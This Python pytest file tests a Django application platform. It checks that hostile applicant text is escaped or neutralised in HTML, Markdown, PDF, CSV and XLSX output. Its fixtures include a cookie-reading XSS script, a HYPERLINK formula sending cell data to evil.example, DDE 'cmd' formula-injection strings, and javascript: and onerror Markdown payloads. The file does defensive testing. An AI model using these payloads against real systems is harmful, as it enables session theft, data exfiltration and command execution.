"""Hostile text typed by an applicant is inert wherever the platform shows it again.

An application answer (its title) and an organisation's legal name carry text that is at
once a spreadsheet formula and a script. It goes through every way the platform shows text:
the HTML pages (autoescaped), Markdown (sanitised by nh3), the answers PDF (WeasyPrint, from
an escaped template), the staff CSV export and the report engine's CSV and XLSX (formulas
neutralised: an apostrophe in CSV, a text cell with the quote prefix in XLSX).
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.template.loader import render_to_string
from django.urls import reverse
from openpyxl import load_workbook

from applications import models as application_models
from applications.exports import application_csv_lines
from applications.services import application_attach, application_save_draft
from applications.submission import views as submission_views
from applications.submission.services import application_submit
from calls.markdown import render_markdown
from reports.exports.columns import Column, Report
from reports.exports.writers import csv_lines, xlsx_write
from tests.calls.factories import VALID_ANSWERS
from tests.pdf_reading import text_lines

SCRIPT = "<script>alert(document.cookie)</script>"
# A formula that sends the sheet's data away, with a script in its label.
HOSTILE_TITLE = f'=HYPERLINK("http://evil.example/?d="&A1,"{SCRIPT}")'
HOSTILE_NAMES = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def minimal_pdf() -> io.BytesIO:
    upload = io.BytesIO(
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )
    upload.name = "work-plan.pdf"
    return upload


@pytest.fixture
def hostile(draft, applicant, organisation):
    """A submitted application whose title and organisation name are hostile."""
    organisation.legal_name = f"{SCRIPT} Cooperativa"
    organisation.save()
    application = application_save_draft(
        application=draft,
        user=applicant,
        answers={**VALID_ANSWERS, "project_title": HOSTILE_TITLE},
        version=draft.version,
    )
    application_attach(
        application=application, user=applicant, field_key="work_plan", upload=minimal_pdf()
    )
    application.refresh_from_db()
    return application_submit(application=application, user=applicant)


# --- HTML -----------------------------------------------------------------------------------------


def test_hostile_text_is_escaped_on_the_pages_that_show_it(applicant_client, hostile):
    for url in (
        reverse("application_review", args=[hostile.pk]),
        reverse("application_confirmation", args=[hostile.pk]),
    ):
        page = applicant_client.get(url).content.decode()
        assert SCRIPT not in page, url
        assert "&lt;script&gt;alert(document.cookie)&lt;/script&gt;" in page, url


def test_markdown_is_sanitised():
    html = str(
        render_markdown(
            f"Apply now {SCRIPT}\n\n[click](javascript:alert(1)) "
            '<img src=x onerror="alert(1)"> <iframe src="//evil.example"></iframe>'
        )
    )
    lowered = html.lower()
    assert "<script" not in lowered
    assert "javascript:" not in lowered
    assert "onerror" not in lowered
    assert "<iframe" not in lowered
    assert "Apply now" in html


# --- PDF ------------------------------------------------------------------------------------------


def test_the_answers_pdf_prints_hostile_text_as_text(applicant_client, hostile, monkeypatch):
    rendered = []
    real_render_pdf = submission_views.render_pdf

    def keep_html(template, context, *args, **kwargs):
        rendered.append(render_to_string(template, context))
        return real_render_pdf(template, context, *args, **kwargs)

    monkeypatch.setattr(submission_views, "render_pdf", keep_html)
    response = applicant_client.get(reverse("application_answers_pdf", args=[hostile.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    (html,) = rendered
    assert SCRIPT not in html
    assert "&lt;script&gt;" in html
    pdf = b"".join(response.streaming_content) if response.streaming else response.content
    text = " ".join(text_lines(pdf))
    # Printed as characters, not taken as markup by WeasyPrint.
    assert "<script>alert(document.cookie)</script>" in text.replace("\n", " ")


# --- CSV and XLSX ---------------------------------------------------------------------------------


def test_the_staff_csv_export_neutralises_formulas(hostile):
    queryset = application_models.Application.objects.filter(pk=hostile.pk)
    rows = list(csv.reader(io.StringIO("".join(application_csv_lines(queryset, language="en")))))
    header, row = rows[0], rows[1]
    title = row[header.index("Title")]
    organisation = row[header.index("Organisation")]
    assert title == "'" + HOSTILE_TITLE
    assert organisation == f"{SCRIPT} Cooperativa"


def engine_report(legal_names: list[str]) -> Report:
    """A report of the engine over real rows: the organisations' names from the database."""
    columns = [Column("organisation__legal_name", "Legal name"), Column("title", "Title")]
    rows = application_models.Application.objects.filter(
        organisation__legal_name__in=legal_names
    ).values("organisation__legal_name", "title")
    return Report(name="recipients", title="Recipients", columns=columns, rows=rows)


def test_report_engine_csv_neutralises_every_formula_start(hostile, organisation):
    for name in HOSTILE_NAMES:
        organisation.legal_name = name
        organisation.save()
        lines = "".join(csv_lines(engine_report([name])))
        (row,) = list(csv.reader(io.StringIO(lines.lstrip("\ufeff"))))[1:]
        assert row[0] == "'" + name, name
        assert row[1] == "'" + HOSTILE_TITLE


def test_report_engine_xlsx_keeps_every_formula_start_as_quoted_text(hostile, organisation):
    for name in HOSTILE_NAMES:
        organisation.legal_name = name
        organisation.save()
        out = io.BytesIO()
        xlsx_write([engine_report([name])], out)

        with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
            sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet_xml and "<f " not in sheet_xml, name
        sheet = load_workbook(io.BytesIO(out.getvalue()))["Recipients"]
        for cell, expected in ((sheet["A2"], name), (sheet["B2"], HOSTILE_TITLE)):
            # openpyxl reads a stored \r back as \n; what matters is the type and the prefix.
            assert cell.value.replace("\n", "\r") == expected.replace("\n", "\r") or (
                cell.value == expected
            ), name
            assert cell.data_type == "s", name
            assert cell.quotePrefix, f"{name!r} is not marked as text (quote prefix)"
